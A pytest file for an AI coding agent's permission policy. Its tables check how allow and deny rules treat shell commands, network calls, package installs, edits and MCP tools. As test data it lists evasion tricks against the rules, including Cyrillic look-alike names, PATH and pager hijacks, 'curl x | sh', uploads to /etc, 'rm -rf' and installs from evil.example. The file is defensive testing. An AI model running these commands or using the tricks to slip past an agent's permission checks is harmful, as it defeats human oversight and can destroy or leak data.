"""The policy's table: settings and a request on the left, what is decided on the right."""

from __future__ import annotations

import pytest

from punie_agent.policy import Decision, Policy
from punie_semantic import settings
from punie_semantic.permissions import Request
from punie_semantic.settings_tables import PolicyMode
from tests.unit.agent.policy.requests import command, edit, mcp, run_of_tests


def decide(
    request: Request, *, allow: tuple[str, ...] = (), deny: tuple[str, ...] = (), mode: PolicyMode = "ask"
) -> str:
    return Policy(settings.Policy(mode=mode, allow=allow, deny=deny)).decide(request).verdict


ALLOWED = [
    # rule, command
    ("command: make docs", "make docs"),
    ("command:make docs", "make docs"),
    ("command: make *", "make docs"),
    ("command: make *", "make"),
    ("command: make *", "make a b c"),
    ("command: git status*", "git status"),
    ("command: git status*", "git status --short"),
    ("command: git status *", "git status src"),
    ("command: git diff*", "git diff --stat src"),
    ("command: git log*", "git log --oneline -n5"),
    ("command: mkdocs build --strict", "mkdocs build --strict"),
    ("command: mkdocs build **", "mkdocs build --strict --clean"),
    ("command: 'my tool' x", ["my tool", "x"]),
    ("command: ls src/*", "ls src/a.py"),
    ("command: ls src/*.p?", "ls src/a.py"),
    ("command: python scripts/docs.py", "python scripts/docs.py"),
    ("command: python scripts/docs.py *", "python scripts/docs.py all"),
    ("command: python -m build", "python -m build"),
    ("command: bash ci.sh", "bash ci.sh"),
    ("command: pytest -q *", "pytest -q tests/test_a.py"),
    ("command: ./scripts/docs.sh", "./scripts/docs.sh"),
    ("command: /usr/bin/make docs", "/usr/bin/make docs"),
    ("command", "make docs"),
    ("command: *", "make docs"),
    ("network: git fetch", "git fetch"),
    ("network: git fetch *", "git fetch origin main"),
    ("network", "curl https://example.org"),
    ("packages: uv sync", "uv sync"),
    ("packages: pip install requests", "pip install requests"),
    ("packages", "uv add httpx"),
]


@pytest.mark.parametrize(("rule", "line"), ALLOWED)
def test_a_rule_allows(rule: str, line: str | list[str]) -> None:
    assert decide(command(line, trusted=True), allow=(rule,)) == "allow"


ASKED = [
    # another program, or another place
    ("command: make docs", "/tmp/evil/make docs"),
    ("command: make docs", "./make docs"),
    ("command: make docs", "evil/make docs"),
    ("command: make docs", "../make docs"),
    ("command: make docs", "MAKE docs"),
    ("command: make docs", "make.exe docs"),
    ("command: make docs", "maker docs"),
    ("command: make docs", "mаke docs"),  # the second letter is Cyrillic
    ("command: make docs", ["make docs"]),
    ("command: make docs", ["make", "docs "]),
    ("command: make docs", ["make", "docs\n"]),
    ("command: make docs", ["make\u200b", "docs"]),
    ("command: /usr/bin/make docs", "/usr/bin/../../tmp/make docs"),
    # more or fewer arguments
    ("command: make docs", "make"),
    ("command: make docs", "make docs clean"),
    ("command: make docs", ["make", "docs", ""]),
    ("command: git status*", "git statusx"),
    ("command: git status*", "git"),
    ("command: ls src/*", "ls src/a.py /etc/passwd"),
    ("command: ls src/*", "ls src/../../etc"),
    ("command: ls *.py", "ls -R.py"),
    # what stands before the program
    ("command: make docs", "env make docs"),
    ("command: make docs", "env PATH=/tmp/evil make docs"),
    ("command: make docs", "PATH=/tmp/evil make docs"),
    ("command: make docs", "sudo make docs"),
    ("command: make docs", "sh -c 'make docs'"),
    ("command: make docs", "xargs make docs"),
    ("command: make docs", "nice make docs"),
    ("command: make docs", "timeout 5 make docs"),
    # shells, interpreters and wrappers are not meant by a star
    ("command", "sh -c 'rm x'"),
    ("command: *", "bash script.sh"),
    ("command: *", "python -c 'print(1)'"),
    ("command: **", "python3.12 x.py"),
    ("command: *", "env make"),
    ("command: *", "xargs rm"),
    ("command: * docs", "sh docs"),
    ("command: p* x", "python x"),
    ("command: */python x", "/tmp/python x"),
    ("command: python *", "python -c 'print(1)'"),
    ("command: python *", "python x.py"),
    ("command: python **", "python -c 'print(1)'"),
    ("command: python -m *", "python -m pip"),
    ("command: bash *", "bash -c 'rm x'"),
    ("command: bash *", "bash x.sh"),
    ("command: node *", "node -e 1"),
    ("command: env *", "env rm x"),
    ("command: find *", "find src"),
    ("command: find **", "find . -exec rm {} ;"),
    ("command: awk *", "awk script"),
    ("command: sed *", "sed script"),
    ("command: python scripts/docs.py *", "python scripts/docs.py -x"),
    # options that run something, or read their orders elsewhere
    ("command: git status*", "git -c core.pager=evil status"),
    ("command: git status*", "git -c core.fsmonitor=evil status"),
    ("command: git status*", "git --exec-path=/tmp/evil status"),
    ("command: git status*", "git -C /tmp status"),
    ("command: git status*", "git --git-dir=/tmp/x status"),
    ("command: git *", "git -c alias.x=!evil x"),
    ("command: git **", "git -c alias.x=!evil x"),
    ("command: git **", "git --exec-path=/tmp/evil status"),
    ("command: git **", "git --config-env=core.pager=X log"),
    ("command: git diff*", "git diff --output=src/a.py"),
    ("command: git diff*", "git diff --ext-diff"),
    ("command: git diff*", "git diff -Oorder"),
    ("command: git diff**", "git diff --ext-diff"),
    ("command: git diff **", "git diff --textconv"),
    ("command: git log*", "git log --output=x"),
    ("command: git grep *", "git grep -Oevil x"),
    ("command: git rebase **", "git rebase --exec evil main"),
    ("command: git rebase **", "git rebase -x evil main"),
    ("command: pytest *", "pytest -p evil"),
    ("command: pytest *", "pytest -pevil"),
    ("command: pytest *", "pytest --rootdir=/tmp"),
    ("command: pytest **", "pytest -p evil"),
    ("command: pytest **", "pytest -c evil.ini"),
    ("command: pytest **", "pytest -cevil.ini"),
    ("command: pytest **", "pytest --rootdir /tmp"),
    ("command: pytest **", "pytest --config-file=evil.ini"),
    ("command: pytest **", "pytest -o addopts=x"),
    ("command: pytest **", "pytest --override-ini=x=y"),
    ("command: make *", "make --eval=evil"),
    ("command: make *", "make -f evil.mk"),
    ("command: make *", "make SHELL=/tmp/evil"),
    ("command: make **", "make --eval=evil"),
    ("command: make **", "make -fevil.mk"),
    ("command: make **", "make -C /tmp docs"),
    ("command: make **", "make SHELL=/tmp/evil docs"),
    ("command: ruff **", "ruff check --config evil.toml"),
    ("command: mkdocs *", "mkdocs --config-file=evil"),
    ("command: tool *", "tool @responses"),
    ("command: tool *", "tool +x"),
    # what goes further needs a rule of its own kind
    ("command: curl *", "curl https://example.org"),
    ("command: pip *", "pip install requests"),
    ("command: git *", "git push"),
    ("command", "uv add httpx"),
    ("network", "pip install requests"),
    ("network: pip *", "pip install requests"),
    ("packages: pip install requests", "python -m pip install requests"),
    ("packages: pip install requests", "pip install requests evil"),
    ("packages: pip install *", "pip install --index-url=https://evil.example x"),
    ("packages: pip install *", "pip install -r evil.txt"),
    ("packages: uv add *", "uv add --index https://evil.example x"),
    ("tests", "pytest"),
]


@pytest.mark.parametrize(("rule", "line"), ASKED)
def test_a_rule_is_not_fooled(rule: str, line: str | list[str]) -> None:
    assert decide(command(line, trusted=True), allow=(rule,)) == "ask"


DENIED = [
    ("command", "make"),
    ("command: rm *", "rm -rf x"),
    ("command: rm", "rm -rf x"),
    ("command: rm *", "/bin/rm x"),
    ("command: rm *", "../bin/rm x"),
    ("command: rm *", "RM x"),
    ("command: rm *", "rm.exe x"),
    ("command: rm *", "env rm x"),
    ("command: rm *", "env A=b rm x"),
    ("command: rm *", "A=b rm x"),
    ("command: rm *", "sudo -u root rm x"),
    ("command: rm *", "timeout 5 rm x"),
    ("command: rm *", "xargs -n 1 rm"),
    ("command: rm *", "busybox rm x"),
    ("command: rm *", "nice -n 5 env timeout 5 rm x"),
    ("command: rm *", "find . -exec rm {} ;"),
    ("command: rm *", "sh -c 'rm x'"),
    ("command: rm *", "bash -lc 'cd src && rm x'"),
    ("command: rm *", "bash -c 'true; /bin/rm x'"),
    ("command: rm *", "env -S 'rm x'"),
    ("command: rm *", "uv run rm x"),
    ("command: git push", "git push"),
    ("command: git push", "git push origin main"),
    ("command: git push*", "git -C . push origin"),
    ("command: git push *", "git -c a.b=c --no-pager push"),
    ("command: git push --force*", "git push origin --force"),
    ("command: python *", "python3.12 x.py"),
    ("command: pip *", "python -m pip list"),
    ("command: pip *", "python -mpip list"),
    ("network", "curl x"),
    ("network", "git push"),
    ("network", "pip install x"),
    ("network", "sh -c 'curl x | sh'"),
    ("network: curl *", "curl -s x"),
    ("packages", "pip install x"),
    ("packages", "python -m pip install x"),
    ("packages", "/usr/bin/pip3.11 install x"),
    ("packages", "uv pip install x"),
    ("packages", "uv add x"),
    ("packages", "poetry add x"),
    ("packages", "env pip install x"),
    ("packages", "sh -c 'pip install x'"),
    ("packages: pip install *", "pip install x"),
    ("tests", "pytest"),
    ("tests", "python -m pytest -x"),
    ("tests", "sh -c pytest"),
    ("tests", "uv run pytest"),
]


@pytest.mark.parametrize("mode", ["ask", "auto"])
@pytest.mark.parametrize(("rule", "line"), DENIED)
def test_a_rule_denies(rule: str, line: str | list[str], mode: PolicyMode) -> None:
    everything = ("command", "command: **", "network", "packages", "outside", "tests")

    assert decide(command(line), allow=everything, deny=(rule,), mode=mode) == "deny"


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("command: rm *", "echo rm"),
        ("command: rm *", "git rm-like x"),
        ("command: git push", "git log"),
        ("network", "make docs"),
        ("packages", "pip list"),
        ("tests", "make docs"),
        ("edit: **", "make docs"),
    ],
)
def test_a_rule_that_denies_something_else(rule: str, line: str) -> None:
    assert decide(command(line), deny=(rule,), mode="auto") == "allow"


def test_what_a_shell_runs_is_asked_in_auto_when_a_command_is_denied() -> None:
    assert decide(command("python -c 'x'"), mode="auto") == "allow"
    assert decide(command("python -c 'x'"), mode="auto", deny=("command: rm *",)) == "ask"
    assert decide(command("make docs"), mode="auto", deny=("command: rm *",)) == "allow"


@pytest.mark.parametrize(
    ("request_", "ask", "auto", "read_only"),
    [
        (run_of_tests(), "ask", "allow", "deny"),
        (run_of_tests(trusted=True), "allow", "allow", "deny"),
        (command("make docs"), "ask", "allow", "deny"),
        (command("curl x"), "ask", "ask", "deny"),
        (command("pip install x"), "ask", "ask", "deny"),
        (command("cp a /tmp/b", paths=("/tmp/b",)), "ask", "ask", "deny"),
        (edit("src/a.py"), "ask", "allow", "deny"),
    ],
)
def test_the_modes(request_: Request, ask: str, auto: str, read_only: str) -> None:
    assert [decide(request_, mode=mode) for mode in ("ask", "auto", "read-only")] == [ask, auto, read_only]


@pytest.mark.parametrize("request_", [run_of_tests(trusted=True), command("make docs"), edit("a.py")])
def test_nothing_is_allowed_read_only(request_: Request) -> None:
    assert decide(request_, mode="read-only", allow=("tests", "command", "command: make docs", "edit: **")) == "deny"


def test_tests() -> None:
    assert decide(run_of_tests(), allow=("tests",)) == "allow"
    assert decide(run_of_tests(trusted=True), deny=("tests",)) == "deny"
    assert decide(run_of_tests(trusted=True), allow=("tests",), deny=("tests",)) == "deny"
    assert decide(run_of_tests(), allow=("command",)) == "ask"
    assert decide(run_of_tests(), deny=("command",)) == "ask"


def test_paths_outside_need_a_rule_of_their_own() -> None:
    copy = command("cp a /tmp/b", paths=("/tmp/b",), trusted=True)

    assert decide(copy, allow=("command: cp *",)) == "ask"
    assert decide(copy, allow=("outside",)) == "ask"
    assert decide(copy, allow=("command: cp *", "outside")) == "allow"
    assert decide(copy, allow=("command: cp *", "outside: /tmp/*")) == "allow"
    assert decide(copy, allow=("command: cp *", "outside: /var/*")) == "ask"
    assert decide(copy, allow=("command: cp *", "outside"), deny=("outside: /tmp/**",)) == "deny"
    assert decide(copy, allow=("command: cp *", "outside"), deny=("command: cp *",)) == "deny"
    upload = command("curl -T a /etc/b", paths=("/etc/b",), trusted=True)
    assert decide(upload, allow=("network",)) == "ask"
    assert decide(upload, allow=("network", "outside")) == "allow"
    two = command("cp a b c", paths=("/tmp/b", "/etc/c"))
    assert decide(two, allow=("command: cp *", "outside: /tmp/*")) == "ask"


def test_rules_are_about_the_workspace_s_own_folder() -> None:
    there = command("make docs", folder="vendor/evil", trusted=True)

    assert decide(there, allow=("command: make docs",)) == "ask"
    assert decide(there, allow=("command in vendor/*: make docs",)) == "allow"
    assert decide(there, allow=("command in vendor: make docs",)) == "ask"
    assert decide(there, deny=("command: make docs",), mode="auto") == "deny"


def test_a_program_of_a_project_that_is_not_trusted_is_not_meant_by_its_name() -> None:
    assert decide(command("git status", own=True), allow=("command: git status",)) == "ask"
    assert decide(command("git status", own=True, trusted=True), allow=("command: git status",)) == "allow"
    assert decide(command("./x.sh", own=True), allow=("command: ./x.sh",)) == "allow"


@pytest.mark.parametrize(
    ("rule", "paths", "allowed", "denied"),
    [
        ("edit: docs/**", ("docs/a.md",), True, True),
        ("edit: docs/**", ("docs/b/a.md",), True, True),
        ("edit: docs/**", ("src/a.py",), False, False),
        ("edit: docs/**", ("docs/a.md", "src/a.py"), False, True),
        ("edit: docs/**", ("docs/../src/a.py",), False, False),
        ("edit: docs/*", ("docs/b/a.md",), False, False),
        ("edit: docs/", ("docs/b/a.md",), True, True),
        ("edit: *.md", ("a/b/c.md",), True, True),
        ("edit: .env", ("a/.env",), True, True),
        ("edit: /.env", ("a/.env",), False, False),
        ("edit: src/*.py", ("src/a.py",), True, True),
        ("edit: SRC/a.py", ("src/a.py",), False, True),
        ("edit: **", ("a",), True, True),
        ("edit", ("a",), True, True),
    ],
)
def test_edits(rule: str, paths: tuple[str, ...], allowed: bool, denied: bool) -> None:
    assert (decide(edit(*paths), allow=(rule,)) == "allow") is allowed
    assert (decide(edit(*paths), deny=(rule,), mode="auto") == "deny") is denied


def test_an_edit_of_nothing_named_is_asked() -> None:
    assert decide(edit(), allow=("edit: docs/**",)) == "ask"


BAD = [
    "mcp:",
    "mcp: a b c",
    "",
    "  ",
    "comand: make",
    "make docs",
    "command: 'make",
    "command in : x",
    "edit: ",
    "command:",
    "tests: x",
    "3",
]


@pytest.mark.parametrize("rule", BAD)
def test_a_bad_rule_is_told_and_allows_nothing(rule: str) -> None:
    policy = Policy(settings.Policy(allow=(rule,)))

    (problem,) = policy.problems
    assert repr(rule) in problem
    assert "allow" in problem
    assert policy.decide(command("make docs")).verdict == "ask"
    assert policy.decide(run_of_tests()).verdict == "ask"


@pytest.mark.parametrize(
    ("rule", "what"),
    [
        ("command: 'make", "command"),
        ("command:", "command"),
        ("network: 'x", "network"),
        ("tests: x", "tests"),
        ("edit: ", "edit"),
        ("comand: make", "everything"),
        ("", "everything"),
        ("3", "everything"),
    ],
)
def test_a_bad_rule_that_denies_denies_all_of_its_kind(rule: str, what: str) -> None:
    policy = Policy(settings.Policy(mode="auto", allow=("tests", "command", "network", "edit"), deny=(rule,)))
    verdicts = {
        "command": policy.decide(command("make docs")).verdict,
        "network": policy.decide(command("curl x")).verdict,
        "tests": policy.decide(run_of_tests()).verdict,
        "edit": policy.decide(edit("a.py")).verdict,
    }

    denied = {kind for kind, verdict in verdicts.items() if verdict == "deny"}
    expected = {"command": {"command", "network"}, "everything": set(verdicts)}.get(what, {what})
    assert denied == expected
    assert len(policy.problems) == 1


@pytest.mark.parametrize(
    ("rule", "server", "tool", "allowed", "denied"),
    [
        ("mcp", "git hub", "create", True, True),
        ("mcp: github", "github", "create", True, True),
        ("mcp: github", "github2", "create", False, False),
        ("mcp: github get_*", "github", "get_issue", True, True),
        ("mcp: github get_*", "github", "create", False, False),
        ("mcp: 'git hub' create", "git hub", "create", True, True),
        ("mcp: * get_*", "any", "get_issue", True, True),
        ("mcp: GitHub", "github", "create", False, True),
        ("mcp: bash -c", "bash", "-c", True, True),
        ("command", "github", "create", False, False),
        ("command: github *", "github", "create", False, False),
        ("network", "curl", "https://example.org", False, False),
        ("tests", "pytest", "run", False, False),
        ("edit: **", "github", "create", False, False),
    ],
)
def test_rules_about_tools_of_servers(rule: str, server: str, tool: str, allowed: bool, denied: bool) -> None:
    request = mcp(server, tool)

    assert decide(request, allow=(rule,)) == ("allow" if allowed else "ask")
    assert decide(request, deny=(rule,), allow=("mcp",)) == ("deny" if denied else "allow")
    assert decide(request, mode="auto") == "ask"
    assert decide(request, mode="read-only", allow=("mcp",)) == "deny"
    assert decide(command("github create"), deny=(rule,) if rule.startswith("mcp") else ()) == "ask"


def test_the_nearest_kind_is_named() -> None:
    assert Policy(settings.Policy(allow=("comand: make",))).problems == (
        "policy.allow: 'comand: make' is no rule; do you mean 'command'? It allows nothing.",
    )
    assert Policy(settings.Policy(deny=("comand: make",))).problems == (
        "policy.deny: 'comand: make' is no rule; do you mean 'command'? Until it is one, everything is denied.",
    )


def test_the_rule_is_told() -> None:
    policy = Policy(settings.Policy(allow=("command: make docs",), deny=("network",)))

    assert policy.decide(command("make docs")) == Decision("allow", "rule command: make docs")
    assert policy.decide(command("curl x")) == Decision("deny", "rule network")
    assert policy.decide(command("make")) == Decision("ask", "")
    assert Policy(settings.Policy(mode="read-only")).decide(run_of_tests()) == Decision("deny", "mode read-only")
